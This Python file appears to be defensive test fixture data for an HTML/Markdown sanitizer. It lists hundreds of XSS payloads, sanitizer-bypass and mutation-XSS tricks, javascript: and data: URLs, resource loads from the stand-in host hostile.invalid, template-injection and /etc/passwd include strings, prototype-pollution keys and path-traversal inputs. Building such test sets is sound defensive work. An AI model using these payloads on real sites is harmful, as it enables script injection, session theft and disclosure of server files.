"""What somebody who means ill might write: in a text, in a header, as an address, after the address of a page."""

from __future__ import annotations

# Each would say RUN through alert, or ask the host hostile.invalid for something, in some browser, if it were let.
HOST = "hostile.invalid"

_TAGS = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//hostile.invalid/a.js></script>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<img src=//hostile.invalid/a.png>
<img srcset="//hostile.invalid/b.png 1x">
<IMG SRC=x OnErRoR="alert(1)">
<img src=x onerror=&#97;lert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1) /></svg>
<svg><use href="//hostile.invalid/a.svg#x" /></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<style>@import '//hostile.invalid/a.css';</style>
<style>body{background:url(//hostile.invalid/c.png)}</style>
<p style="background:url(//hostile.invalid/d.png)">x</p>
<link rel=stylesheet href=//hostile.invalid/b.css>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=//hostile.invalid/></iframe>
<object data=//hostile.invalid/a></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=//hostile.invalid/b>
<video src=//hostile.invalid/c onerror=alert(1) autoplay>
<video><source onerror=alert(1) src=x></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<body onload=alert(1)>
<body/onpageshow=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<button popovertarget=x onclick=alert(1)>x</button>
<marquee onstart=alert(1)>x</marquee>
<div onmouseover=alert(1)>x</div>
<p onclick=alert(1) tabindex=1>x</p>
<x-trap onfocus=alert(1) autofocus tabindex=1>x</x-trap>
<mailto:x/onfocus="alert(1)"autofocus/tabindex="1">
<form action=//hostile.invalid/><button>x</button></form>
<form action=javascript:alert(1)><input type=submit></form>
<base href=//hostile.invalid/>
<a href=javascript:alert(1)>x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href=data:text/html,<script>alert(1)</script>>x</a>
<a href="#" ping=//hostile.invalid/ping>x</a>
<template><script>alert(1)</script></template>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<title><img title="</title><img src=x onerror=alert(1)>">
<xmp><img title="</xmp><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<!-- text --><img src=x onerror=alert(1)><!-- /text -->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
</div></article></main><script>alert(1)</script>
</p></li></ul><img src=x onerror=alert(1)>
<table><td><img src=x onerror=alert(1)></table>
<div markdown="1">[x](javascript:alert(1))</div>
<em markdown="span" onclick=alert(1)>x</em>
&lt;img src=x onerror=alert(1)&gt;
\\<img src=x onerror=alert(1)>
\\`<img src=x onerror=alert(1)>\\`
"""

# Markdown of several lines; an empty line stands between them, and "§" for a line break within one.
_MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<javascript:alert(1)>)
[x](javascript&#58;alert(1))
[x](javascript&colon;alert(1))
[x](java&#10;script:alert(1))
[x](&#106;avascript:alert(1))
[x](`javascript:alert`(1))
[x](vbscript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x§y](javascript:alert(1))
[x](§javascript:alert(1))
[x][a]§§[a]: javascript:alert(1)
[x][b]§§[b]:§  javascript:alert(1)
[x][c]§§- [c]: javascript:alert(1)
[x][d]§§> [d]: javascript:alert(1)
[e]§§[e]: <javascript:alert(1)> "x"
[x](# "x> ombud &lt;img src=x onerror=alert(1)&gt;")
[x](# 'ombud" onmouseover="alert(1)')
[x](https://example.org/"onmouseover="alert(1))
![x](javascript:alert(1))
![x](https://hostile.invalid/e.png)
![x](//hostile.invalid/f.png)
![x](/\hostile.invalid/g.png)
![x](\\\\hostile.invalid/h.png)
![x](%5C%5Chostile.invalid/i.png)
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x" onerror="alert(1)](x.png)
![x&quot; onerror=&quot;alert(1)](x.png)
![x](x.png "x&quot; onerror=&quot;alert(1)")
<javascript:alert(1)>
<https://example.org/"onmouseover=alert(1)>
  ~~~§<img src=x onerror=alert(1)>§  ~~~
```§<img src=x onerror=alert(1)>
``` {onclick=alert(1)}§x§```
x {: onclick=alert(1) }
x§{: onmouseover=alert(1) }
## Rubrik {: onclick=alert(1) id=sok }
## <img src=x onerror=alert(1)>
| a | b |§|---|---|§| <img src=x onerror=alert(1)> | x |
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>§    - <svg onload=alert(1)>
<div>§§[x](javascript:alert(1)){: onclick=alert(1) }§§</div>
{{ config }} {% include "/etc/passwd" %}
--8<-- "/etc/passwd"
&#2;wzxhzdk:0&#3; <b>x</b>
&#2;klzzwxh:0000&#3;
"""

TEXTS = (
    *_TAGS.strip().splitlines(),
    *(text.replace("§", "\n") for text in _MARKDOWN.strip().splitlines()),
    "<scr\x00ipt>alert(1)</script>",
    "\u202e<img src=x onerror=alert(1)>\u202c",
    "<img src=x onerror=alert(1) " + "x" * 2500 + ">",
    "<" * 500 + "img src=x onerror=alert(1)" + ">" * 500,
)

# Where a word of the header may land: between tags, in an attribute, in a script, in YAML, in Markdown.
VALUES = (
    '<script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
    '<img src=x onerror=alert(1)>',
    '" onerror="alert(1)" x="',
    "' onerror='alert(1)' x='",
    '" autofocus tabindex=1 onfocus="alert(1)',
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    '&quot; onerror=&quot;alert(1)',
    '&#34;&#62;&#60;svg onload=alert(1)&#62;',
    '--><img src=x onerror=alert(1)>',
    '<!-- /text --><img src=x onerror=alert(1)>',
    ']]><img src=x onerror=alert(1)>',
    '</script><script>alert(1)</script>',
    '"};alert(1);//',
    "'-alert(1)-'",
    '\\"-alert(1)//',
    '${alert(1)}',
    '\u2028alert(1)//',
    '</template><img src=x onerror=alert(1)>',
    '</dd></dl></div><img src=x onerror=alert(1)>',
    '[x](javascript:alert(1))',
    '![x](//hostile.invalid/j.png)',
    '<javascript:alert(1)>',
    '{: onclick=alert(1) }',
    '{{ 7*7 }}{% raw %}',
    '`<img src=x onerror=alert(1)>`',
    '# <svg onload=alert(1)>',
    '| <svg onload=alert(1)> |',
    '---\ntemplate: 404.html\n---',
    '\x00<svg onload=alert(1)>',
    '\u202e<svg onload=alert(1)>',
    'a:b, c\n<svg onload=alert(1)>',
    '%3Csvg onload=alert(1)%3E',
    '\\\\hostile.invalid\\k.png',
    '//hostile.invalid/l.png',
)  # fmt: skip

ADDRESSES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)//example.org",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "javascript&colon;alert(1)",
    "blob:https://example.org/x",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/><svg onload=alert(1)>",
    "https://example.org/)[x](javascript:alert(1)",
    "https://example.org/{: onclick=alert(1) }",
)

_OF_ADDRESS_BAR = (
    "<x-trap>", "<x-trap onfocus=alert(1) autofocus tabindex=1>", "</option><x-trap>", "</textarea><x-trap>",
    "</title><x-trap>", "</style><x-trap>", "'\"><x-trap>", "javascript:alert(1)", "#<x-trap>", "../../<x-trap>",
    "constructor", "__proto__", "toString", "hasOwnProperty", "metod.constructor", "metod.__proto__", "egen..<x-trap>",
    "egen.1.<img src=x onerror=alert(1)>", "metod.byamote.<x-trap>", "metod.../../x", "//hostile.invalid/",
    "\\\\hostile.invalid\\", "https://hostile.invalid/", "data:text/html,<script>alert(1)</script>", "%00", "%E0%A4%A",
    "\ud7ff\u202e<x-trap>", "<" * 300, "x" * 5000,
)  # fmt: skip

ADDRESS_BAR = (*_OF_ADDRESS_BAR, *(one for one in VALUES if "<" in one))[:48]
